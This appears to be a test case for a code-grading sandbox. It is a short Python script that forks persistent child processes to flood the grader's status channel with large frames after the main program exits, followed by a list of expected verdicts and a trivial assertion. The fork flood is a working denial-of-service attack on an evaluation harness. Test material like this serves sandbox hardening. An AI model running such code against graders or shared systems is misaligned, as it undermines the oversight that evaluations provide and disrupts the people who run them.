# attack: the program ends; its children write costly frames on the status channel for as long as anybody reads them
# verdict: runtime_error untested time_limit wall_limit process_limit
import os, socket, struct, time

body = b'{"a":[' + b"{}," * 10000 + b"1]}"
frame = struct.pack(">I", len(body)) + body
socket.socket(fileno=os.dup(3)).setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
for _ in range(12):
    if os.fork() == 0:
        while True:
            pid = os.fork()
            if pid == 0:
                while True:
                    os.write(3, frame)
            os.waitpid(pid, 0)
time.sleep(0.3)
os._exit(0)
# --- tests ---
assert add(1, 2) == 3
